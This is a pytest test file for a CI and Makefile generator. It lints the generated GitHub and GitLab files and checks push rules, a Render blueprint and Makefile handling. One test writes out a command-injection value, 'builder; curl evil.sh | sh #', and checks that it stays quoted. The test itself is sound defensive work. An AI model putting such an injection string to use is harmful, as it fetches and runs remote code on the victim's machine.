"""The generated CI files and Makefile: the real linters accept them for every golden, both providers."""

from __future__ import annotations

import dataclasses
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from builder.cli import main
from builder.plan import BuildPlan
from builder.project import load_project
from builder.targets.github import GitHubWorkflowTarget
from builder.targets.gitlab import GitLabCiTarget

REPO = Path(__file__).resolve().parents[2]
APPS = [REPO / "app_sample", *sorted(p.parent for p in (REPO / "tests" / "golden").glob("*/builder.yaml"))]
BIN = Path(sys.executable).parent


def tool(name: str) -> str:
    """The dev extra installs the linters beside this Python; a missing one fails the test, never skips it."""
    found = shutil.which(name) or (str(BIN / name) if (BIN / name).is_file() else None)
    assert found, f"{name} is not installed: pip install -e '.[dev]'"
    return found


def run(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False)


def written(plan: BuildPlan, target: GitHubWorkflowTarget | GitLabCiTarget, tmp_path: Path) -> Path:
    """The target's file for this plan, whichever provider the spec chose, written into tmp_path."""
    artifact = target.artifacts(plan)[0]
    path = tmp_path / artifact.name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(artifact.text)
    return path


@pytest.mark.parametrize("root", APPS, ids=lambda p: p.name)
def test_the_github_workflow_passes_actionlint_and_the_schema(root: Path, tmp_path: Path) -> None:
    path = written(load_project(root).plan, GitHubWorkflowTarget(), tmp_path)
    lint = run(tool("actionlint"), "-no-color", str(path))
    assert lint.returncode == 0, lint.stdout + lint.stderr
    schema = run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path))
    assert schema.returncode == 0, schema.stdout + schema.stderr


@pytest.mark.parametrize("root", APPS, ids=lambda p: p.name)
def test_the_gitlab_file_passes_the_schema(root: Path, tmp_path: Path) -> None:
    path = written(load_project(root).plan, GitLabCiTarget(), tmp_path)
    schema = run(tool("check-jsonschema"), "--builtin-schema", "vendor.gitlab-ci", str(path))
    assert schema.returncode == 0, schema.stdout + schema.stderr


def test_the_linters_catch_a_broken_workflow(tmp_path: Path) -> None:
    """The checks above can fail: a misspelt key and an unknown expression are caught."""
    path = written(load_project(REPO / "app_sample").plan, GitHubWorkflowTarget(), tmp_path)
    path.write_text(path.read_text().replace("runs-on:", "run-on:").replace("github.actor", "github.actr"))
    assert run(tool("actionlint"), "-no-color", str(path)).returncode != 0
    assert run(tool("check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)).returncode != 0


def test_pushes_happen_on_the_push_branch_only() -> None:
    plan = load_project(REPO / "app_sample").plan
    workflow = yaml.safe_load(GitHubWorkflowTarget().artifacts(plan)[0].text)
    step = next(s for s in workflow["jobs"]["build"]["steps"] if s.get("name") == "builder ci")
    assert step["env"]["PUSH"] == "${{ github.event_name == 'push' && github.ref == 'refs/heads/main' }}"
    assert 'builder ci --image "${IMAGE,,}" "$@"' in step["run"]
    ledger = load_project(REPO / "tests/golden/flask-external-db").plan
    gitlab = yaml.safe_load(GitLabCiTarget().artifacts(ledger)[0].text)
    rules = gitlab["builder"]["rules"]
    assert rules[0] == {"if": '$CI_COMMIT_BRANCH == "trunk"', "variables": {"PUSH_FLAG": "--push"}}
    assert "PUSH_FLAG" not in rules[1].get("variables", {})


def test_a_hostile_install_requirement_stays_one_shell_word(tmp_path: Path) -> None:
    plan = load_project(REPO / "app_sample").plan
    evil = dataclasses.replace(plan, ci=dataclasses.replace(plan.ci, install="builder; curl evil.sh | sh #"))
    workflow = yaml.safe_load(GitHubWorkflowTarget().artifacts(evil)[0].text)
    install = next(s for s in workflow["jobs"]["build"]["steps"] if s.get("name") == "Install builder")
    assert install["run"] == "python -m pip install 'builder; curl evil.sh | sh #'"
    gitlab = yaml.safe_load(GitLabCiTarget().artifacts(evil)[0].text)
    assert gitlab["builder"]["before_script"][-1] == "/opt/builder/bin/pip install 'builder; curl evil.sh | sh #'"


def test_the_render_blueprint_can_deploy_the_pushed_image() -> None:
    blueprint = yaml.safe_load((REPO / "tests/golden/fastapi-uvicorn/render.yaml").read_text())
    web = blueprint["services"][0]
    assert web["runtime"] == "image" and "dockerfilePath" not in web
    assert web["image"] == {"url": "ghcr.io/acme/inventory-api:main",
                            "creds": {"fromRegistryCreds": {"name": "ghcr-acme"}}}


def test_render_from_registry_needs_an_image(sample_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = sample_copy / "builder.yaml"
    spec.write_text(spec.read_text() + "ci:\n  render_from_registry: ghcr-acme\n")
    assert main(["--spec", str(sample_copy), "generate"]) == 2
    err = capsys.readouterr().err
    assert "Render can deploy from a registry only when the image is named" in err and "ci.image" in err


def test_an_apps_own_makefile_is_kept_and_told_to_include(sample_copy: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    own = "test:\n\tpytest\n"
    (sample_copy / "Makefile").write_text(own)
    assert main(["--spec", str(sample_copy), "generate", "--force"]) == 0
    out = capsys.readouterr().out
    assert (sample_copy / "Makefile").read_text() == own, "--force must not replace a Makefile builder did not write"
    assert "Makefile           kept: yours: add `include builder.mk` to it" in out
    assert (sample_copy / "builder.mk").is_file()
    assert main(["--spec", str(sample_copy), "generate", "--check"]) == 0, capsys.readouterr().out


def test_the_ci_output_stays_out_of_the_build_context() -> None:
    ignored = (REPO / "app_sample/.dockerignore").read_text().splitlines()
    assert {"builder-ci", ".github", ".gitlab-ci.yml", "Makefile", "builder.mk"} <= set(ignored)
